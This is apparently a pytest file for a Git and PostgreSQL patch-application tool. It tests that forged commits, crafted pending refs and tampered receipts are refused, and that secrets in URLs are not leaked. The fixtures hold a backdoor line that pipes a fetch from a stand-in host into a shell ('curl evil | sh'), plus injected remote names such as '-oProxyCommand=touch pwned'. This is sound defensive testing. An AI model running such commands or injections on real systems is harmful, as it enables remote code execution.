"""Review of Step 11 (fleets): a PostgreSQL ledger and a shared Git remote as the commit point.

Every test runs real processes: the CLI, a real ``git daemon`` (``served``) and, where a ledger is
shared, a real PostgreSQL server (``pg_url``).
"""

from __future__ import annotations

from pathlib import Path

from tests.conftest import UTIL_PATCH, Repo, Served, git, run_cli

PENDING = "refs/applyonce/pending/heads/main/"


def _server_tip(served: Served) -> str:
    return served.server_git("rev-parse", "main").strip()


def _hostile_pending(served: Served, attacker: Repo, message: str) -> str:
    """A commit on the server's tip that adds a backdoor, under ``message``, pushed by someone
    else as a pending ref (as anyone allowed to push refs/applyonce/* can)."""
    tip = _server_tip(served)
    attacker.git("fetch", "-q", "origin", "main")
    attacker.git("checkout", "-q", "--detach", tip)
    (attacker.path / "backdoor.py").write_text("import os; os.system('curl evil | sh')\n")
    attacker.git("add", "backdoor.py")
    attacker.git("commit", "-q", "-m", message)
    commit = attacker.git("rev-parse", "HEAD").strip()
    attacker.git("push", "-q", "origin", f"{commit}:{PENDING}{commit}")
    return commit


def test_recover_never_publishes_a_pending_commit_whose_call_it_does_not_know(
    served: Served, tmp_path: Path
) -> None:
    """A pending ref crafted by someone else: a commit adding a backdoor, under the message (and
    so the self-consistent identity trailers) of a genuine call. The recovering clone knows
    nothing of that call, so it cannot check that the commit carries the call's change: it must
    leave it, never publish it to the shared branch."""
    attacker = served.another_clone(tmp_path / "attacker")
    killed = run_cli(
        "apply", "-", "--repo", str(attacker.path), "--remote", "origin",
        input=UTIL_PATCH, env={"APPLYONCE_FAULT": "after-push-objects"},
    )
    assert killed.returncode == -9
    (genuine,) = served.server_git(
        "for-each-ref", "--format=%(objectname)", "refs/applyonce/"
    ).split()
    message = served.server_git("log", "-1", "--format=%B", genuine)
    served.server_git("update-ref", "-d", PENDING + genuine)
    before = _server_tip(served)
    hostile = _hostile_pending(served, attacker, message)

    done = run_cli("recover", "--repo", str(served.clone.path), "--remote", "origin")

    assert done.returncode == 0, done.stderr
    assert _server_tip(served) == before, "a hostile pending commit was published"
    assert git(served.server, "cat-file", "-t", hostile).strip() == "commit"
    assert "published" not in done.stdout


def test_a_foreign_commit_with_a_copied_call_id_on_the_server_is_never_adopted(
    served: Served, tmp_path: Path
) -> None:
    """Someone pushes to the server's branch a commit of their own under a genuine call's message
    (its Call-Id trailer copied). The call, applied from a clone, must not be reported committed
    by that commit, and audit must name it forged."""
    scratch = served.another_clone(tmp_path / "scratch")
    made = run_cli("apply", "-", "--repo", str(scratch.path), input=UTIL_PATCH)  # local only
    assert made.returncode == 0, made.stderr
    message = scratch.git("log", "-1", "--format=%B").strip()
    attacker = served.another_clone(tmp_path / "attacker")
    (attacker.path / "backdoor.py").write_text("evil\n")
    attacker.git("add", "backdoor.py")
    attacker.git("commit", "-q", "-m", message)
    attacker.git("push", "-q", "origin", "HEAD:main")
    forged_tip = _server_tip(served)

    run = run_cli("apply", "-", "--repo", str(served.clone.path), "--remote", "origin",
                  "--json", input=UTIL_PATCH)
    assert run.returncode == 5, run.stdout + run.stderr
    assert '"forged-call-id"' in run.stdout and forged_tip[:12] in run.stdout
    assert "Traceback" not in run.stderr
    audit = run_cli("audit", "--repo", str(served.clone.path), "--remote", "origin")
    assert audit.returncode == 1
    assert "forged" in (audit.stdout + audit.stderr).lower(), audit.stdout + audit.stderr


def test_a_password_in_the_query_of_a_refused_ledger_url_is_never_printed(repo: Repo) -> None:
    """``--ledger`` that is not a PostgreSQL URL is refused (exit 2) by a message that repeats it:
    a password given as a query parameter (as libpq URLs allow) must not be in it."""
    before = (repo.files(), repo.head())
    run = run_cli(
        "apply", "-", "--repo", str(repo.path), "--ledger",
        "mysql://u@db.example/app?password=s3cret-token", input=UTIL_PATCH,
    )
    assert run.returncode == 2, run.stderr
    assert "s3cret-token" not in run.stdout + run.stderr
    assert "is not a ledger applyonce can use" in run.stderr
    assert len(run.stderr.strip().splitlines()) == 1
    assert (repo.files(), repo.head()) == before and not repo.state_dir().exists()


def test_a_ledger_url_with_a_bad_option_value_is_a_usage_error(served: Served) -> None:
    """A libpq option with a value libpq cannot read is the URL's fault, not a database that is
    down: exit 2 (usage), not 4 ('start the database ... repeat the call')."""
    repo = served.clone
    before = (repo.files(), repo.head())
    run = run_cli(
        "apply", "-", "--repo", str(repo.path), "--remote", "origin", "--ledger",
        "postgresql://u@/db?host=/nonexistent&connect_timeout=soon", input=UTIL_PATCH,
    )
    assert run.returncode == 2, run.stderr
    assert "connect_timeout" in run.stderr and "Traceback" not in run.stderr
    assert len(run.stderr.strip().splitlines()) == 1
    assert (repo.files(), repo.head()) == before and not repo.state_dir().exists()


def test_pending_refs_that_name_no_commit_of_theirs_are_left_without_a_traceback(
    served: Served, tmp_path: Path
) -> None:
    """Pending refs crafted on the server: one whose name is a commit that exists nowhere, one
    pointing at a blob, one at a tree. recover reads them, publishes nothing and settles every other
    call; it never fails (it did: exit 3, "object is no commit object")."""
    attacker = served.another_clone(tmp_path / "attacker")
    blob = attacker.git("rev-parse", "HEAD:README.md").strip()
    tree = attacker.git("rev-parse", "HEAD^{tree}").strip()
    head = attacker.head()
    attacker.git("push", "-q", "origin",
                 f"{head}:{PENDING}{'ab' * 20}",
                 f"{blob}:{PENDING}{blob}",
                 f"{tree}:{PENDING}{tree}")
    before = _server_tip(served)
    done = run_cli("recover", "--repo", str(served.clone.path), "--remote", "origin")
    assert "Traceback" not in done.stderr, done.stderr
    assert done.returncode == 0, done.stdout + done.stderr
    assert _server_tip(served) == before


def test_a_remote_url_whose_password_holds_an_at_sign_keeps_none_of_it() -> None:
    """The receipt's ``remote`` (and messages) drop the whole user information: a password with
    an '@' in it (pasted unencoded) left its tail behind ('https://ss@host/r')."""
    from applyonce.core.receipt import public_url

    assert public_url("https://u:p@ss@host/r.git") == "https://host/r.git"
    assert public_url("https://tok@host/r") == "https://host/r"
    assert public_url("https://host/r?x=a@b") == "https://host/r?x=a@b"  # not user information


def test_a_call_another_clone_committed_on_the_shared_ledger_is_its_result_here(
    served: Served, tmp_path: Path, pg_url: str
) -> None:
    """One PostgreSQL ledger, one remote: clone A commits a call; clone B, which has not fetched
    since, repeats it. B must answer A's commit (exit 0), not 'receipt ...: its commit is not in
    the repository ... do not trust it' (exit 5): the commit is on the remote, just not here."""
    import json

    other = served.another_clone(tmp_path / "other")
    third = served.another_clone(tmp_path / "third")
    fleet = ("--remote", "origin", "--ledger", pg_url, "--json")
    first = run_cli("apply", "-", "--repo", str(served.clone.path), *fleet, input=UTIL_PATCH)
    assert first.returncode == 0, first.stderr
    again = run_cli("apply", "-", "--repo", str(other.path), *fleet, input=UTIL_PATCH)
    assert again.returncode == 0, again.stdout + again.stderr
    assert json.loads(again.stdout)["commit"] == json.loads(first.stdout)["commit"]
    shown = run_cli("show", json.loads(first.stdout)["call_id"], "--repo", str(third.path), *fleet)
    assert shown.returncode == 0, shown.stdout + shown.stderr
    log = run_cli("log", "--repo", str(third.path), *fleet)
    assert log.returncode == 0, log.stdout + log.stderr
    audit = run_cli("audit", "--repo", str(third.path), "--remote", "origin", "--ledger", pg_url)
    assert audit.returncode == 0, audit.stdout + audit.stderr


def test_a_receipt_tampered_with_in_the_shared_ledger_is_reported_not_trusted(
    served: Served, tmp_path: Path, pg_url: str
) -> None:
    """The receipts table of the PostgreSQL ledger edited by hand (its body and its digest
    column both, self-consistently): another clone's show refuses it (exit 5) and audit reports
    it; the call's ledger row names the digest of what applyonce wrote."""
    import hashlib
    import json

    import psycopg

    other = served.another_clone(tmp_path / "other")
    fleet = ("--remote", "origin", "--ledger", pg_url)
    first = run_cli("apply", "-", "--repo", str(served.clone.path), *fleet, "--json",
                    input=UTIL_PATCH)
    assert first.returncode == 0, first.stderr
    call_id = json.loads(first.stdout)["call_id"]
    with psycopg.connect(pg_url, autocommit=True) as conn:
        (body,) = conn.execute("SELECT body FROM receipts WHERE call_id = %s", (call_id,)).fetchone()
        forged = bytes(body).replace(b"\"updated_at\": \"2", b"\"updated_at\": \"1")
        assert forged != bytes(body)
        conn.execute("UPDATE receipts SET body = %s, sha256 = %s WHERE call_id = %s",
                     (forged, hashlib.sha256(forged).hexdigest(), call_id))
    shown = run_cli("show", call_id, "--repo", str(other.path), *fleet)
    assert shown.returncode == 5, shown.stdout + shown.stderr
    assert "changed after applyonce wrote it" in shown.stderr
    audit = run_cli("audit", "--repo", str(other.path), *fleet)
    assert audit.returncode == 1 and "tampered" in audit.stdout, audit.stdout + audit.stderr


def test_a_remote_without_the_branch_never_gets_a_root_commit_of_the_call_alone(
    served: Served, tmp_path: Path
) -> None:
    """A 3 a.m. set-up: a new empty repository on the server added as the remote of a clone
    with history. The call used to land as a root commit holding only the patch's file (the
    project's history and files not in it), and say "Success. Updated ... A new.txt" while the
    checkout never got the file. Refused instead (exit 4, one line: push the branch first),
    with nothing pushed and nothing changed in the checkout."""
    from tests.conftest import NEW_FILE_PATCH

    empty = served.daemon.make_bare()
    clone = served.clone
    clone.git("remote", "set-url", "origin", empty)
    before = (clone.files(), clone.head())
    run = run_cli("apply", "-", "--repo", str(clone.path), "--remote", "origin",
                  input=NEW_FILE_PATCH)
    assert run.returncode == 4, run.stdout + run.stderr
    assert "git push origin main" in run.stderr
    assert len(run.stderr.strip().splitlines()) == 1 and "Traceback" not in run.stderr
    assert git(served.daemon.path_of(empty), "for-each-ref").strip() == ""
    assert (clone.files(), clone.head()) == before
    # Once the branch is there, the same call lands on it.
    clone.git("push", "-q", "origin", "main")
    again = run_cli("apply", "-", "--repo", str(clone.path), "--remote", "origin",
                    input=NEW_FILE_PATCH)
    assert again.returncode == 0, again.stdout + again.stderr
    assert (clone.path / "new.txt").read_text() == "new\n"
    assert (clone.path / "README.md").exists()


def test_a_call_left_pending_by_one_clone_and_made_by_another_lands_once(
    served: Served, tmp_path: Path
) -> None:
    """Clone A is killed between its two pushes; clone B (a ledger of its own) makes the same
    call meanwhile. A's recover then finds B's commit by its Call-Id, adopts it and drops its
    own pending push: one Call-Id, one commit on the server's branch."""
    import json

    killed = run_cli("apply", "-", "--repo", str(served.clone.path), "--remote", "origin",
                     input=UTIL_PATCH, env={"APPLYONCE_FAULT": "after-push-objects"})
    assert killed.returncode == -9
    other = served.another_clone(tmp_path / "other")
    made = run_cli("apply", "-", "--repo", str(other.path), "--remote", "origin", "--json",
                   input=UTIL_PATCH)
    assert made.returncode == 0, made.stderr
    done = run_cli("recover", "--repo", str(served.clone.path), "--remote", "origin")
    assert done.returncode == 0, done.stdout + done.stderr
    out = served.server_git("log", "--format=%(trailers:key=Call-Id,valueonly)", "main")
    assert [line for line in out.splitlines() if line.strip()] == [json.loads(made.stdout)["call_id"]]
    assert served.server_git("for-each-ref", "refs/applyonce/").strip() == ""
    shown = run_cli("show", json.loads(made.stdout)["call_id"], "--repo", str(served.clone.path),
                    "--remote", "origin", "--json")
    assert json.loads(shown.stdout)["commit"] == json.loads(made.stdout)["commit"]


def test_a_hostile_remote_name_is_never_echoed_in_a_command_to_run(repo: Repo) -> None:
    """``--remote '-oProxyCommand=...'``: refused (exit 2, nothing written), and the hint does not
    tell the user to run 'git remote add -oProxyCommand=... URL' (it did)."""
    before = (repo.files(), repo.head())
    for name in ("-oProxyCommand=touch pwned", "origin;id", "../x"):
        run = run_cli("apply", "-", "--repo", str(repo.path), "--remote", name,
                      input=UTIL_PATCH)
        assert run.returncode == 2, run.stderr
        assert "git remote add" not in run.stderr, run.stderr
        assert "is not a remote name" in run.stderr
        assert len(run.stderr.strip().splitlines()) == 1
    assert (repo.files(), repo.head()) == before and not repo.state_dir().exists()
